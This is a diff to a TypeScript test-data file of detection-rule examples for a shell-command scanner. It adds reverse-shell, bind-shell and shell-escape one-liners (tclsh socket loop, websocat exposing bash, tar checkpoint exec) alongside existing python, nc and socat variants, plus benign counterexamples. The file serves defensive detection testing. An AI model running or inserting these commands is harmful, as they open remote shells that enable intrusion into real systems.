@@ -3,6 +3,8 @@ import type { RuleExamples } from './rule-examples.ts';
 export const SHELLS_EXAMPLES: RuleExamples = {
   'shells.code-socket': {
     fires: [
+      "tclsh <<< 'set s [socket 10.0.0.1 4242]; while 1 { gets $s c; catch {eval exec $c} r; puts $s $r }'",
+
       `python -c 'a=__import__;s=a("socket").socket();s.connect(("10.0.0.1",4444));a("subprocess").call(["/bin/sh","-i"],stdin=s)'`,
       'julia -e \'using Sockets; s=connect("10.0.0.1",4444); while true; write(s, read(`sh -c $(readline(s))`)); end\'',
       `elixir -e '{:ok,s}=:gen_tcp.connect({10,0,0,1},4444,[]); :os.cmd(~c"sh")'`,
@@ -59,6 +61,8 @@ export const SHELLS_EXAMPLES: RuleExamples = {
   },
   'shells.netcat-exec': {
     fires: [
+      "websocat -E ws-l:0.0.0.0:8000 sh-c:'bash -i'",
+
       'socat stdin exec:/bin/sh',
       'nc -eu /bin/sh 198.51.100.9 80',
       'nc -lvpe 80 /bin/bash',
@@ -71,6 +75,8 @@ export const SHELLS_EXAMPLES: RuleExamples = {
       'socat TCP4-LISTEN:4444,reuseaddr,fork EXEC:bash',
     ],
     silent: [
+      'websocat ws://x.example',
+
       'nc -zv host 22',
       'nc -z -w1 host 80',
       "echo 'show stat' | socat stdio /run/haproxy.sock",
@@ -116,6 +122,8 @@ export const SHELLS_EXAMPLES: RuleExamples = {
   },
   'shells.escape': {
     fires: [
+      "tar xf a.tar --checkpoint=1 --checkpoint-action=exec='sh x.sh'",
+
       `tar xf /dev/null -I '/bin/sh -c "sh <&2 1>&2"'`,
       'perl -e \'exec "/bin/sh"\'',
       'python3 -c \'import pty; pty.spawn("/bin/bash")\'',
@@ -133,6 +141,8 @@ export const SHELLS_EXAMPLES: RuleExamples = {
       'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh',
     ],
     silent: [
+      'tar cf a.tar --checkpoint=100 --checkpoint-action=dot src',
+
       String.raw`find . -name '*.sh' -exec sh {} \;`,
       'python3 -c \'import subprocess; subprocess.run(["sh", "build.sh"])\'',
       'docker exec -it web bash',
